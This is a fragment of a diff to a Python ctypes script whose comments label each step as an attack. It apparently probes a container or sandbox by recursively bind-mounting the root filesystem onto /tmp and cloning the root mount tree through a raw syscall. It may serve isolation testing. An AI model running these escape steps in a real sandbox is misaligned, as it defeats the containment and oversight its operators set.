@@ -88,7 +88,7 @@ libc.mount(b"proc", b"/tmp", b"proc", ctypes.c_ulong(0), None)
 # proves: process
 # shows: mounts was
 # spoils: session
-libc.mount(b"/", b"/tmp", None, ctypes.c_ulong(4096), None)
+libc.mount(b"/", b"/tmp", None, ctypes.c_ulong(4096 | 16384), None)
 
 # attack: unmount
 # unmounts /tmp, to see what is below it
@@ -108,7 +108,7 @@ held = call(430, 430, b"tmpfs", 0)
 # takes a copy of a mount by the newer calls
 # proves: process
 # shows: descriptor of /
-held = call(428, 428, -100, b"/", ctypes.c_uint(1))
+held = call(428, 428, -100, b"/", ctypes.c_uint(0x8001))
 
 # attack: change_root
 # changes its root folder
